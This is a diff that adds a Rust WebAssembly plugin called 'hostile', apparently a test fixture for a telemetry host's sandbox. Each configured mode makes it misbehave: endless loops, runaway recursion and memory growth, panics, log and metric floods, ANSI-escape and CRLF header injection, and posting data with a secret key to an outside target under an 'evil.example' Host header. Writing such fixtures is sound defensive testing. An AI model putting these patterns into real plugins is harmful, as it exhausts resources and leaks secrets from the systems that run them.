@@ -1,0 +1,205 @@
+//! A guest that does harm: which, says its setting `mode`.
+//!
+//! Invariant: does nothing that its settings do not ask for.
+
+use std::hint::black_box;
+use std::sync::atomic::{AtomicU32, Ordering};
+use std::sync::{Mutex, PoisonError};
+
+use exports::weir::plugin::exporter::{Batch, Delivery, Guest as Exporter, Outcome};
+use exports::weir::plugin::http_receiver::{Answer, Guest as HttpReceiver, Received, Request, Response};
+use exports::weir::plugin::plugin::{Descriptor, Encoding, Guest as Plugin, SettingsError, Signal};
+use weir::plugin::outcomes::{PartialSuccess, Retry};
+use weir::plugin::{clock, http_client, log, meter};
+
+wit_bindgen::generate!({
+    path: "../../../../../wit",
+    inline: "
+        package weir:hostile;
+        world hostile {
+            include weir:plugin/exporter-plugin@0.1.0;
+            export weir:plugin/http-receiver@0.1.0;
+        }
+    ",
+    world: "weir:hostile/hostile",
+    generate_all,
+});
+
+struct Hostile;
+export!(Hostile);
+
+static SETTINGS: Mutex<String> = Mutex::new(String::new());
+static CALLS: AtomicU32 = AtomicU32::new(0);
+
+const SCHEMA: &str = r#"{
+    "type": "object", "additionalProperties": false, "required": ["mode"],
+    "properties": {
+        "mode": {"type": "string"},
+        "target": {"type": "string"},
+        "endpoint": {"type": "string", "x-weir": "egress"},
+        "key": {"type": "string", "x-weir": "secret"},
+        "listen": {"type": "string", "x-weir": {"listen": "http", "name": "main"}, "default": "127.0.0.1:9411"}
+    }
+}"#;
+
+impl Plugin for Hostile {
+    fn describe() -> Descriptor {
+        Descriptor {
+            name: "hostile".into(),
+            version: "6.6.6".into(),
+            description: "does \u{1b}[31mharm".into(),
+            signals: vec![Signal::Traces, Signal::Profiles],
+            encoding: Encoding::Protobuf,
+            settings_schema: SCHEMA.into(),
+            extra: vec![],
+        }
+    }
+
+    fn configure(settings: String) -> Result<(), Vec<SettingsError>> {
+        let mode = setting(&settings, "mode");
+        *SETTINGS.lock().unwrap_or_else(PoisonError::into_inner) = settings;
+        match mode.as_str() {
+            "refuse" => Err(vec![SettingsError {
+                at: "/mode".into(),
+                message: "not in this mood".into(),
+            }]),
+            "trap-in-configure" => unreachable_by_design(),
+            _ => Ok(()),
+        }
+    }
+}
+
+impl Exporter for Hostile {
+    fn push(batch: Batch, delivery: Delivery) -> Outcome {
+        let settings = SETTINGS.lock().unwrap_or_else(PoisonError::into_inner).clone();
+        let calls = CALLS.fetch_add(1, Ordering::Relaxed) + 1;
+        match setting(&settings, "mode").as_str() {
+            "accept" => Outcome::Accepted,
+            "count" => Outcome::Partial(PartialSuccess {
+                rejected: calls,
+                message: format!("{} {}", delivery.id, clock::now()),
+            }),
+            "loop" => endless(),
+            "recurse" => Outcome::Permanent(recurse(1).to_string()),
+            "grow" => grow(),
+            "panic" => unreachable_by_design(),
+            "trap-once" if delivery.attempt == 1 => unreachable_by_design(),
+            "long-answer" => Outcome::Permanent("x".repeat(40 << 20)),
+            "odd-answer" => Outcome::Permanent("\u{1b}[31mred\n".repeat(2000)),
+            "log-flood" => {
+                for n in 0..10_000 {
+                    log::write(
+                        log::Level::Info,
+                        &"line\n\u{1b}[2J".repeat(500),
+                        &[("n".into(), n.to_string())],
+                    );
+                }
+                Outcome::Accepted
+            }
+            "label-flood" => {
+                (0..10_000).for_each(|n| meter::add("flood", 1, &[("n".into(), n.to_string())]));
+                Outcome::Accepted
+            }
+            "send" => send(
+                &setting(&settings, "endpoint"),
+                &setting(&settings, "key"),
+                batch.body,
+            ),
+            "send-elsewhere" => send(&setting(&settings, "target"), "", batch.body),
+            "send-for-ever" => loop {
+                black_box(send(&setting(&settings, "target"), "", Vec::new()));
+            },
+            _ => Outcome::Accepted,
+        }
+    }
+}
+
+impl HttpReceiver for Hostile {
+    fn receive(listener: String, request: Request) -> Answer {
+        let settings = SETTINGS.lock().unwrap_or_else(PoisonError::into_inner).clone();
+        let reply = |status, text: &str| Response {
+            status,
+            headers: vec![("x-listener".into(), listener.clone())],
+            body: text.into(),
+        };
+        match setting(&settings, "mode").as_str() {
+            "odd-status" => Answer::Reply(reply(17, "")),
+            "odd-header" => Answer::Reply(Response {
+                status: 200,
+                headers: vec![("a b\r\n".into(), String::new())],
+                body: vec![],
+            }),
+            "panic" => unreachable_by_design(),
+            _ if request.method == "GET" => Answer::Reply(reply(404, &request.target)),
+            _ => Answer::Telemetry(Received {
+                batches: vec![Batch {
+                    signal: Signal::Traces,
+                    encoding: Encoding::Protobuf,
+                    body: request.body,
+                }],
+                rejected: 2,
+                accepted: reply(202, "taken"),
+                refused: reply(503, "later"),
+            }),
+        }
+    }
+}
+
+fn send(url: &str, key: &str, body: Vec<u8>) -> Outcome {
+    let headers = vec![
+        ("authorization".to_owned(), format!("Bearer {key}")),
+        ("host".to_owned(), "evil.example".to_owned()),
+    ];
+    let request = http_client::Request {
+        method: "POST".into(),
+        target: url.into(),
+        headers,
+        body,
+    };
+    match http_client::send(&request, None) {
+        Ok(response) if response.status < 300 => Outcome::Accepted,
+        Ok(response) => Outcome::Permanent(format!("status {}", response.status)),
+        Err(http_client::Error::Denied(why)) => Outcome::Stopped(why),
+        Err(error) => Outcome::Retryable(Retry {
+            message: format!("{error:?}"),
+            after_ms: Some(1500),
+        }),
+    }
+}
+
+#[inline(never)]
+fn endless() -> Outcome {
+    let mut n = 0_u64;
+    loop {
+        n = black_box(n.wrapping_add(1));
+    }
+}
+
+#[inline(never)]
+fn recurse(n: u64) -> u64 {
+    if black_box(n) == 0 {
+        0
+    } else {
+        recurse(n + 1) + black_box(n)
+    }
+}
+
+fn grow() -> Outcome {
+    let mut kept = Vec::new();
+    loop {
+        kept.push(black_box(vec![1_u8; 1 << 20]));
+    }
+}
+
+#[inline(never)]
+fn unreachable_by_design() -> ! {
+    panic!("by design");
+}
+
+/// The string under `key` in a flat JSON object without escapes.
+fn setting(settings: &str, key: &str) -> String {
+    let Some((_, rest)) = settings.split_once(&format!("\"{key}\":\"")) else {
+        return String::new();
+    };
+    rest.split('"').next().unwrap_or_default().to_owned()
+}
